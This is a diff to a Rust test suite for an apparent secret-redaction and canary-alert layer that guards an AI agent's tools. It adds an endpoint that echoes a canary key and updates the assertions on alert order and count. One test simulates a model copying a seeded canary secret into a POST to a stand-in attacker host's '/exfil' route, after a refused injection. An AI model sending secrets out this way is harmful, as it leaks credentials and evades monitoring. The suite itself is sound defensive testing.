@@ -107,8 +107,9 @@ async fn search(State(api): State<Arc<Api>>, RawQuery(q): RawQuery, body: String
     "ok".into_response()
 }
 
-async fn backup() -> &'static str {
-    "stored"
+/// Answers with the canary's value, as a careless API echoing a header might.
+async fn backup() -> String {
+    format!("stored key {CANARY_VALUE}")
 }
 
 async fn attacker_any(State(a): State<Arc<Attacker>>, req: Request) -> &'static str {
@@ -636,7 +637,10 @@ async fn a_body_echoing_the_token_is_redacted_before_the_tool_sees_it() {
         .await
         .unwrap();
     let header = resp.header("x-echo").unwrap();
-    assert_eq!(header, "Bearer [hive:github.access_token]");
+    assert!(
+        header == "Bearer [hive:github.access_token]",
+        "header not redacted"
+    );
     let text = resp.text().await.unwrap();
     assert!(text.starts_with("{\"you_sent\":\"Bearer [hive:github.access_token]\""));
 
@@ -653,7 +657,7 @@ async fn a_body_echoing_the_token_is_redacted_before_the_tool_sees_it() {
         streamed.extend_from_slice(&chunk);
     }
     let streamed = String::from_utf8(streamed).unwrap();
-    assert_eq!(streamed, text);
+    assert!(streamed == text, "streamed and whole reads differ");
     f.outputs.extend([header, text, streamed]);
     f.assert_nothing_leaked();
 }
@@ -676,6 +680,12 @@ async fn canary_use_raises_alerts_with_node_and_destination() {
             .await
             .unwrap();
         assert_eq!(resp.status(), 200);
+        // ... and the API echoes it: the tool sees a marker, and the monitor an alert.
+        let text = resp.text().await.unwrap();
+        assert!(
+            text == "stored key [hive:aws_backup.secret_key]",
+            "not redacted"
+        );
         // 2. The model copied the canary's value (seeded in a file) into a request.
         let resp = client
             .post(&format!("{attacker_base}/exfil"))
@@ -704,7 +714,13 @@ async fn canary_use_raises_alerts_with_node_and_destination() {
     let vias: Vec<&str> = alerts.iter().map(|a| &*a.via).collect();
     assert_eq!(
         vias,
-        ["resolve", "outgoing_request", "refused_injection", "get"]
+        [
+            "resolve",
+            "tool_output",
+            "outgoing_request",
+            "refused_injection",
+            "get"
+        ]
     );
     assert!(
         alerts
@@ -715,32 +731,22 @@ async fn canary_use_raises_alerts_with_node_and_destination() {
         alerts[0].destination.as_deref(),
         Some(&*format!("{}/backup", f.api_base))
     );
-    assert!(
-        alerts[1]
-            .destination
-            .as_deref()
-            .unwrap()
-            .contains("attacker.test")
-    );
-    assert!(
-        alerts[2]
-            .destination
-            .as_deref()
-            .unwrap()
-            .contains("attacker.test")
-    );
-    assert_eq!(alerts[3].destination, None);
+    assert_eq!(alerts[1].destination, alerts[0].destination);
+    for a in &alerts[2..4] {
+        assert!(a.destination.as_deref().unwrap().contains("attacker.test"));
+    }
+    assert_eq!(alerts[4].destination, None);
     let audited = f
         .runtime
         .audit_trail()
         .into_iter()
         .filter(|r| r.operation == "canary" && r.outcome == "alert")
         .count();
-    assert_eq!(audited, 4);
+    assert_eq!(audited, 5);
     // The redactor knows the canary too: the attacker's echo of it would be a marker.
-    assert_eq!(
-        f.runtime.redact(CANARY_VALUE),
-        "[hive:aws_backup.secret_key]"
+    assert!(
+        f.runtime.redact(CANARY_VALUE) == "[hive:aws_backup.secret_key]",
+        "canary value not redacted"
     );
     f.assert_nothing_leaked();
 }
